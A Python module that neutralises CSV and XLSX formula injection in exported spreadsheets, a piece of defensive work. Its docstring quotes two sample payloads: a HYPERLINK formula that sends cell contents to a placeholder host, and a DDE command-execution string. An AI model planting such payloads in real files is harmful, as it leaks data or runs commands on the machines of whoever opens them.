"""Text from the inputs written to a spreadsheet stays text: no formula runs when opened.

A department called ``=HYPERLINK("http://x/?d="&A1,"x")`` or an answer such as
``=cmd|' /C calc'!A0`` must reach ``action_plan.xlsx`` and the CSV files as the text it
is (CSV injection, OWASP). In XLSX every string cell is stored as a string, never a
formula; in CSV a value that a spreadsheet would read as a formula (it starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is prefixed with ``'``, which
spreadsheets show as a text marker.
"""

from __future__ import annotations

from typing import Any

#: what makes a spreadsheet read a CSV cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: text that would be read as a formula gets a ``'`` in front.

    Examples
    --------
    >>> csv_value("=1+2"), csv_value("Sales"), csv_value(-3)
    ("'=1+2", 'Sales', -3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def as_text_cells(worksheet: Any) -> None:
    """Store every string cell of an openpyxl worksheet as a string, never a formula.

    openpyxl marks a string that starts with ``=`` as a formula when it is assigned;
    this sets it back to a string (``data_type == "s"``), so Excel and LibreOffice show
    the text and run nothing.
    """
    for row in worksheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.data_type == "f":
                cell.data_type = "s"
